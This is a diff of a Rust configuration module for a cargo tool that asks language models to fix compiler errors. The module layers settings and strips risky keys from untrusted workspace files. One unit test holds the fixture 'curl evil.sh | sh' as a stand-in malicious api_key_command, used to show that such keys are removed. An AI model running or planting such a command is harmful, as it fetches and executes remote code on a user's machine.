@@ -1,46 +1,662 @@
+use crate::api;
+use crate::error::ExoError;
+use colored::Colorize;
 use serde::{Deserialize, Serialize};
 use std::{
-    fs::File,
-    io::{Read, Write},
-    path::Path,
+    collections::BTreeMap,
+    fmt, fs,
+    io::{self, IsTerminal, Write},
+    path::{Path, PathBuf},
+    process::Command,
 };
+use toml::{value::Table, Value};
 
+/// Settings are layered, each of these overriding the ones before:
+/// - the defaults
+/// - the user's `~/.cargo/cargo-exo-config.toml`
+/// - the workspace's `.cargo-exo.toml`, which can't set `api_key_command`, `provider.base_url`
+///   or anything under `sandbox`
+/// - `CARGO_EXO_` environment variables, e.g. `CARGO_EXO_MAX_TURNS=3` or
+///   `CARGO_EXO_GIT__COMMIT_FIXES=true` for nested settings
+/// - `-x` and `--config key=value` on the command line
 #[derive(Serialize, Deserialize)]
 pub struct Config {
+    #[serde(default)]
     pub api_key: String,
+    /// A command that prints the API key, e.g. `pass show openai`, used when `api_key` isn't set
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub api_key_command: Option<String>,
+    /// The cargo command(s) to run when `-x` isn't given, either one or a list of stages
+    #[serde(default = "default_command", deserialize_with = "one_or_many")]
+    pub command: Vec<String>,
+    /// Where to send requests, defaults to OpenAI
+    #[serde(default)]
+    pub provider: ProviderConfig,
+    /// The models to choose from, defaults to the provider's own list
+    #[serde(default)]
+    pub models: Vec<String>,
+    /// The most times we'll go back and forth with the model before giving up
+    #[serde(default = "default_max_turns")]
+    pub max_turns: usize,
+    /// Stop the conversation once this many tokens have been used
+    #[serde(default = "default_token_budget")]
+    pub token_budget: i32,
+    /// The most tokens the model can use for each response
+    #[serde(default = "default_max_tokens")]
+    pub max_tokens: i32,
+    /// Higher is more creative, which isn't usually what you want from a fix
+    #[serde(default)]
+    pub temperature: f64,
+    /// Lines of source to send either side of each error, 0 to only send the compiler output
+    #[serde(default = "default_context_lines")]
+    pub context_lines: usize,
+    /// How many times to retry a request that was rate limited or failed
+    #[serde(default = "default_max_retries")]
+    pub max_retries: usize,
+    /// Seconds to wait for a single request before giving up on it
+    #[serde(default = "default_request_timeout")]
+    pub request_timeout: u64,
+    /// Seconds to let a cargo command run before stopping it, e.g. for tests that hang
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub command_timeout: Option<u64>,
+    /// What to do with git before and after fixing
+    #[serde(default)]
+    pub git: GitConfig,
+    /// Which files the model is allowed to read and change
+    #[serde(default)]
+    pub sandbox: SandboxConfig,
+    /// Lints whose compiler suggestions are applied without asking, e.g. `unused_imports`
+    #[serde(default)]
+    pub auto_apply: Vec<String>,
+    /// Lints and error codes to leave alone, e.g. `clippy::needless_return` or `E0425`
+    #[serde(default)]
+    pub ignore: Vec<String>,
+    /// Files to leave alone, matched the same way as the sandbox lists
+    #[serde(default)]
+    pub exclude: Vec<String>,
+}
+
+/// Where a setting came from.
+#[derive(Clone, Debug, PartialEq)]
+pub enum Source {
+    Default,
+    File(PathBuf),
+    Env(String),
+    Cli,
+}
+
+impl fmt::Display for Source {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Source::Default => write!(f, "default"),
+            Source::File(path) => write!(f, "{}", path.display()),
+            Source::Env(var) => write!(f, "${}", var),
+            Source::Cli => write!(f, "command line"),
+        }
+    }
+}
+
+/// The source of each setting, keyed by its dotted name, e.g. `git.commit_fixes`.
+pub type Sources = BTreeMap<String, Source>;
+
+#[derive(Serialize, Deserialize, Default)]
+#[serde(tag = "type", rename_all = "snake_case")]
+pub enum ProviderConfig {
+    #[default]
+    #[serde(rename = "openai")]
+    OpenAi,
+    /// Anything serving the OpenAI chat completions API, e.g. llama.cpp server, vLLM or Ollama
+    #[serde(rename = "openai_compatible")]
+    OpenAiCompatible { base_url: String },
+    /// Anthropic style messages APIs
+    Anthropic {
+        #[serde(default = "default_anthropic_url")]
+        base_url: String,
+    },
+}
+
+#[derive(Serialize, Deserialize, Default)]
+pub struct GitConfig {
+    /// Commit or branch off before the first fix is applied
+    #[serde(default)]
+    pub before_fixing: BeforeFixing,
+    /// Commit every fix we keep, describing the diagnostics it resolved
+    #[serde(default)]
+    pub commit_fixes: bool,
+}
+
+/// Files are matched by name (`.env`), path from the project root (`src/generated.rs`) or
+/// directory (`vendor/`).
+#[derive(Serialize, Deserialize)]
+pub struct SandboxConfig {
+    /// Files the model can never read or change
+    #[serde(default)]
+    pub deny: Vec<String>,
+    /// Files the model can only read or change once you've said so
+    #[serde(default = "default_confirm")]
+    pub confirm: Vec<String>,
+}
+
+impl Default for SandboxConfig {
+    fn default() -> Self {
+        Self {
+            deny: vec![],
+            confirm: default_confirm(),
+        }
+    }
+}
+
+#[derive(Serialize, Deserialize, Default, Clone, Copy, PartialEq)]
+#[serde(rename_all = "snake_case")]
+pub enum BeforeFixing {
+    /// Just warn about uncommitted changes
+    #[default]
+    Nothing,
+    /// Commit everything as it is so our changes are easy to tell apart
+    WipCommit,
+    /// Switch to a new branch, taking any uncommitted changes along
+    Branch,
+}
+
+fn default_command() -> Vec<String> {
+    vec!["clippy -- -D warnings".to_string()]
+}
+
+fn one_or_many<'de, D: serde::Deserializer<'de>>(deserializer: D) -> Result<Vec<String>, D::Error> {
+    #[derive(Deserialize)]
+    #[serde(untagged)]
+    enum OneOrMany {
+        One(String),
+        Many(Vec<String>),
+    }
+
+    Ok(match OneOrMany::deserialize(deserializer)? {
+        OneOrMany::One(command) => vec![command],
+        OneOrMany::Many(commands) => commands,
+    })
+}
+
+fn default_anthropic_url() -> String {
+    api::ANTHROPIC_URL.to_string()
+}
+
+fn default_confirm() -> Vec<String> {
+    ["Cargo.lock", ".env", "build.rs"]
+        .map(String::from)
+        .to_vec()
+}
+
+fn default_max_turns() -> usize {
+    5
+}
+
+fn default_token_budget() -> i32 {
+    16_000
+}
+
+pub fn default_max_tokens() -> i32 {
+    4096
+}
+
+fn default_context_lines() -> usize {
+    10
+}
+
+fn default_max_retries() -> usize {
+    3
+}
+
+fn default_request_timeout() -> u64 {
+    120
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        // Every setting has a default so an empty table is enough
+        Value::Table(Table::new()).try_into().unwrap()
+    }
 }
 
 impl Config {
-    pub fn init() -> Self {
-        let home_dir = std::env::var("HOME").expect("HOME environment variable not set");
+    /// Loads the layered config. If none of the layers have an API key it comes from
+    /// `api_key_command`, or failing that the provider's usual environment variable.
+    pub fn init(project_root: &Path, overrides: &[(String, String)]) -> Result<Self, ExoError> {
+        let (mut config, _) = Self::load(project_root, overrides)?;
 
-        let config_path = Path::new(&home_dir)
-            .join(".cargo")
-            .join("cargo-exo-config.toml");
+        if config.api_key.is_empty() {
+            config.api_key = match &config.api_key_command {
+                Some(command) => run_key_command(command)?,
+                None => {
+                    let var = match config.provider {
+                        ProviderConfig::Anthropic { .. } => "ANTHROPIC_API_KEY",
+                        _ => "OPENAI_API_KEY",
+                    };
+                    std::env::var(var).unwrap_or_default()
+                }
+            };
+        }
+
+        Ok(config)
+    }
+
+    /// Self-hosted models usually don't need a key, everything else does.
+    pub fn is_missing_api_key(&self) -> bool {
+        self.api_key.is_empty() && !matches!(self.provider, ProviderConfig::OpenAiCompatible { .. })
+    }
 
-        let file = File::open(config_path.clone());
+    /// Merges every layer, keeping track of where each setting came from.
+    pub fn load(
+        project_root: &Path,
+        overrides: &[(String, String)],
+    ) -> Result<(Self, Sources), ExoError> {
+        let mut merged = Table::new();
+        let mut sources = Sources::new();
 
-        match file {
-            Ok(mut file) => {
-                let mut contents = String::new();
-                file.read_to_string(&mut contents)
-                    .expect("Could not read file");
-                toml::from_str(&contents).unwrap()
+        // The workspace's file comes with whatever repo was cloned, so it's not trusted
+        let files = user_path()
+            .into_iter()
+            .map(|path| (path, true))
+            .chain([(project_root.join(".cargo-exo.toml"), false)]);
+        for (path, trusted) in files {
+            if let Some(mut table) = read_table(&path)? {
+                warn_if_readable(&path, &table);
+                if !trusted {
+                    for key in remove_untrusted(&mut table) {
+                        eprintln!(
+                            "🤖 ignoring {} in {}, it can only be set in your own config or the environment",
+                            key,
+                            path.display()
+                        );
+                    }
+                }
+                merge(&mut merged, table, &Source::File(path), "", &mut sources);
             }
-            Err(_) => {
-                let api_key = dialoguer::Input::<String>::new()
-                    .with_prompt("Enter your API key")
-                    .interact_text()
-                    .unwrap();
+        }
+
+        let mut vars = std::env::vars()
+            .filter_map(|(var, value)| {
+                let key = var
+                    .strip_prefix("CARGO_EXO_")?
+                    .to_lowercase()
+                    .replace("__", ".");
+                Some((var, key, value))
+            })
+            .collect::<Vec<_>>();
+        vars.sort();
+        for (var, key, value) in vars {
+            let layer = dotted(&key, parse_value(&value));
+            merge(&mut merged, layer, &Source::Env(var), "", &mut sources);
+        }
+
+        for (key, value) in overrides {
+            let layer = dotted(key, parse_value(value));
+            merge(&mut merged, layer, &Source::Cli, "", &mut sources);
+        }
+
+        let config = Value::Table(merged)
+            .try_into()
+            .map_err(|e: toml::de::Error| ExoError::Config(e.to_string()))?;
+
+        Ok((config, sources))
+    }
+}
+
+/// Prints every setting along with where it came from.
+pub fn show(project_root: &Path, overrides: &[(String, String)]) -> Result<(), ExoError> {
+    let (config, sources) = Config::load(project_root, overrides)?;
+
+    let Value::Table(table) = Value::try_from(&config).unwrap() else {
+        unreachable!()
+    };
+
+    let mut settings = vec![];
+    flatten(&table, "", &mut settings);
+
+    for (key, value) in settings {
+        let value = if key == "api_key" && !config.api_key.is_empty() {
+            "\"********\"".to_string()
+        } else {
+            value.to_string()
+        };
+        let source = sources.get(&key).unwrap_or(&Source::Default);
 
-                let config = Config { api_key };
+        println!(
+            "{} = {} {}",
+            key.bold(),
+            value,
+            format!("({})", source).dimmed()
+        );
+    }
+
+    Ok(())
+}
 
-                let mut file = File::create(config_path).unwrap();
-                file.write_all(toml::to_string(&config).unwrap().as_bytes())
-                    .unwrap();
+/// Saves an API key in the user's config, prompting for it so it doesn't end up in the shell's
+/// history. A key can also be piped in.
+pub fn login() -> Result<(), ExoError> {
+    let path = user_path().ok_or_else(|| ExoError::Config("HOME isn't set".to_string()))?;
 
-                config
+    let api_key = if io::stdin().is_terminal() {
+        dialoguer::Password::new()
+            .with_prompt("Enter your API key")
+            .interact()?
+    } else {
+        let mut api_key = String::new();
+        io::stdin().read_line(&mut api_key)?;
+        api_key
+    };
+
+    let api_key = api_key.trim();
+    if api_key.is_empty() {
+        return Err(ExoError::Config("no API key given".to_string()));
+    }
+
+    let mut user = read_table(&path)?.unwrap_or_default();
+    user.insert("api_key".to_string(), Value::String(api_key.to_string()));
+    write_user(&path, &user)?;
+
+    println!("🤖 saved your API key to {}", path.display());
+
+    Ok(())
+}
+
+/// Removes the API key from the user's config, leaving any other settings alone.
+pub fn logout() -> Result<(), ExoError> {
+    let path = user_path().ok_or_else(|| ExoError::Config("HOME isn't set".to_string()))?;
+
+    let mut user = read_table(&path)?.unwrap_or_default();
+    if user.remove("api_key").is_none() {
+        println!("🤖 no API key saved in {}", path.display());
+        return Ok(());
+    }
+    write_user(&path, &user)?;
+
+    println!("🤖 removed your API key from {}", path.display());
+
+    Ok(())
+}
+
+fn run_key_command(command: &str) -> Result<String, ExoError> {
+    let output = if cfg!(windows) {
+        Command::new("cmd").args(["/C", command]).output()
+    } else {
+        Command::new("sh").args(["-c", command]).output()
+    }
+    .map_err(|e| ExoError::Config(format!("couldn't run api_key_command: {}", e)))?;
+
+    if !output.status.success() {
+        return Err(ExoError::Config(format!(
+            "api_key_command failed with {}: {}",
+            output.status,
+            String::from_utf8_lossy(&output.stderr).trim()
+        )));
+    }
+
+    Ok(String::from_utf8_lossy(&output.stdout).trim().to_string())
+}
+
+/// Writes the user's config so only they can read it, it has their API key in it.
+fn write_user(path: &Path, table: &Table) -> Result<(), ExoError> {
+    if let Some(dir) = path.parent() {
+        fs::create_dir_all(dir)?;
+    }
+
+    let mut options = fs::OpenOptions::new();
+    options.write(true).create(true).truncate(true);
+    #[cfg(unix)]
+    std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
+
+    let mut file = options.open(path)?;
+    #[cfg(unix)]
+    file.set_permissions(std::os::unix::fs::PermissionsExt::from_mode(0o600))?;
+    file.write_all(toml::to_string(table).unwrap().as_bytes())?;
+
+    Ok(())
+}
+
+/// Keys shouldn't sit in a file anyone else can read, but it's the user's call so just warn.
+fn warn_if_readable(path: &Path, table: &Table) {
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+
+        let readable = fs::metadata(path)
+            .map(|metadata| metadata.permissions().mode() & 0o077 != 0)
+            .unwrap_or(false);
+
+        if readable && table.contains_key("api_key") {
+            eprintln!(
+                "🤖 {} has your API key and other users can read it, run `chmod 600 {}`",
+                path.display(),
+                path.display()
+            );
+        }
+    }
+    #[cfg(not(unix))]
+    let _ = (path, table);
+}
+
+fn user_path() -> Option<PathBuf> {
+    let home_dir = std::env::var_os("HOME")?;
+
+    Some(
+        Path::new(&home_dir)
+            .join(".cargo")
+            .join("cargo-exo-config.toml"),
+    )
+}
+
+/// Settings that could run commands, send the API key somewhere else or let the robots at files
+/// they shouldn't see, which a checked in config shouldn't get to decide.
+const UNTRUSTED: &[&str] = &["api_key_command", "provider.base_url", "sandbox"];
+
+/// Takes out any of the settings an untrusted file can't have, returning the ones it had.
+fn remove_untrusted(table: &mut Table) -> Vec<&'static str> {
+    UNTRUSTED
+        .iter()
+        .copied()
+        .filter(|key| {
+            let (parents, name) = key.rsplit_once('.').unwrap_or(("", key));
+            let parent = parents.split('.').filter(|part| !part.is_empty()).try_fold(
+                &mut *table,
+                |table, part| match table.get_mut(part) {
+                    Some(Value::Table(table)) => Some(table),
+                    _ => None,
+                },
+            );
+            parent.and_then(|parent| parent.remove(name)).is_some()
+        })
+        .collect()
+}
+
+fn read_table(path: &Path) -> Result<Option<Table>, ExoError> {
+    let Ok(contents) = fs::read_to_string(path) else {
+        return Ok(None);
+    };
+
+    toml::from_str(&contents)
+        .map(Some)
+        .map_err(|e| ExoError::Config(format!("{}: {}", path.display(), e)))
+}
+
+/// Values from the environment or command line are TOML if they parse as it, otherwise a string so
+/// `-x "test --all"` doesn't need extra quotes.
+fn parse_value(value: &str) -> Value {
+    toml::from_str::<Table>(&format!("value = {}", value))
+        .ok()
+        .and_then(|mut table| table.remove("value"))
+        .unwrap_or_else(|| Value::String(value.to_string()))
+}
+
+/// Turns `git.commit_fixes` and a value into nested tables.
+fn dotted(key: &str, value: Value) -> Table {
+    let mut parts = key.rsplit('.');
+    let mut table = Table::new();
+    table.insert(parts.next().unwrap_or_default().to_string(), value);
+
+    for part in parts {
+        let mut parent = Table::new();
+        parent.insert(part.to_string(), Value::Table(table));
+        table = parent;
+    }
+
+    table
+}
+
+/// Tables are merged key by key, anything else replaces what was there.
+fn merge(base: &mut Table, layer: Table, source: &Source, prefix: &str, sources: &mut Sources) {
+    for (key, value) in layer {
+        let name = format!("{}{}", prefix, key);
+
+        match (base.get_mut(&key), value) {
+            (Some(Value::Table(base)), Value::Table(layer)) => {
+                merge(base, layer, source, &format!("{}.", name), sources);
+            }
+            (_, value) => {
+                let mut leaves = vec![];
+                match &value {
+                    Value::Table(table) => flatten(table, &format!("{}.", name), &mut leaves),
+                    _ => leaves.push((name, value.clone())),
+                }
+                for (name, _) in leaves {
+                    sources.insert(name, source.clone());
+                }
+
+                base.insert(key, value);
             }
         }
     }
 }
+
+fn flatten(table: &Table, prefix: &str, settings: &mut Vec<(String, Value)>) {
+    for (key, value) in table {
+        let name = format!("{}{}", prefix, key);
+
+        match value {
+            Value::Table(table) => flatten(table, &format!("{}.", name), settings),
+            _ => settings.push((name, value.clone())),
+        }
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    #[test]
+    fn it_merges_layers_and_remembers_where_settings_came_from() {
+        let mut merged = Table::new();
+        let mut sources = Sources::new();
+        let user = PathBuf::from("user.toml");
+
+        let layer = toml::from_str("max_turns = 3\n[git]\ncommit_fixes = true").unwrap();
+        merge(
+            &mut merged,
+            layer,
+            &Source::File(user.clone()),
+            "",
+            &mut sources,
+        );
+        merge(
+            &mut merged,
+            dotted("git.before_fixing", parse_value("branch")),
+            &Source::Cli,
+            "",
+            &mut sources,
+        );
+        merge(
+            &mut merged,
+            dotted("max_turns", parse_value("7")),
+            &Source::Env("CARGO_EXO_MAX_TURNS".to_string()),
+            "",
+            &mut sources,
+        );
+
+        let config: Config = Value::Table(merged).try_into().unwrap();
+
+        assert_eq!(config.max_turns, 7);
+        assert!(config.git.commit_fixes);
+        assert!(config.git.before_fixing == BeforeFixing::Branch);
+        assert_eq!(config.command, vec!["clippy -- -D warnings"]);
+        assert_eq!(sources["git.commit_fixes"], Source::File(user));
+        assert_eq!(sources["git.before_fixing"], Source::Cli);
+        assert_eq!(
+            sources["max_turns"],
+            Source::Env("CARGO_EXO_MAX_TURNS".to_string())
+        );
+    }
+
+    #[test]
+    fn it_limits_response_tokens_unless_told_otherwise() {
+        let config: Config = Value::Table(Table::new()).try_into().unwrap();
+        assert_eq!(config.max_tokens, 4096);
+
+        let mut merged = Table::new();
+        let mut sources = Sources::new();
+        merge(
+            &mut merged,
+            toml::from_str("max_tokens = 1024").unwrap(),
+            &Source::File(PathBuf::from("user.toml")),
+            "",
+            &mut sources,
+        );
+        merge(
+            &mut merged,
+            dotted("max_tokens", parse_value("8192")),
+            &Source::Cli,
+            "",
+            &mut sources,
+        );
+
+        let config: Config = Value::Table(merged).try_into().unwrap();
+
+        assert_eq!(config.max_tokens, 8192);
+        assert_eq!(sources["max_tokens"], Source::Cli);
+    }
+
+    #[test]
+    fn it_removes_settings_a_workspace_cant_have() {
+        let mut table = toml::from_str(
+            "api_key_command = \"curl evil.sh | sh\"\nmax_turns = 3\n[provider]\ntype = \"anthropic\"\nbase_url = \"http://evil\"",
+        )
+        .unwrap();
+
+        assert_eq!(
+            remove_untrusted(&mut table),
+            vec!["api_key_command", "provider.base_url"]
+        );
+        assert_eq!(
+            table,
+            toml::from_str("max_turns = 3\n[provider]\ntype = \"anthropic\"").unwrap()
+        );
+        assert!(remove_untrusted(&mut table).is_empty());
+    }
+
+    #[test]
+    fn it_keeps_the_sandbox_out_of_the_workspaces_hands() {
+        let mut table =
+            toml::from_str("max_turns = 3\n[sandbox]\ndeny = []\nconfirm = []").unwrap();
+
+        assert_eq!(remove_untrusted(&mut table), vec!["sandbox"]);
+        assert_eq!(table, toml::from_str("max_turns = 3").unwrap());
+    }
+
+    #[test]
+    fn it_runs_the_api_key_command() {
+        assert_eq!(run_key_command("echo sk-123").unwrap(), "sk-123");
+        assert!(run_key_command("exit 1").is_err());
+    }
+
+    #[test]
+    fn it_parses_values_as_toml_or_strings() {
+        assert_eq!(parse_value("3"), Value::Integer(3));
+        assert_eq!(
+            parse_value("[\"a\"]"),
+            Value::Array(vec![Value::String("a".into())])
+        );
+        assert_eq!(
+            parse_value("test --all"),
+            Value::String("test --all".to_string())
+        );
+    }
+}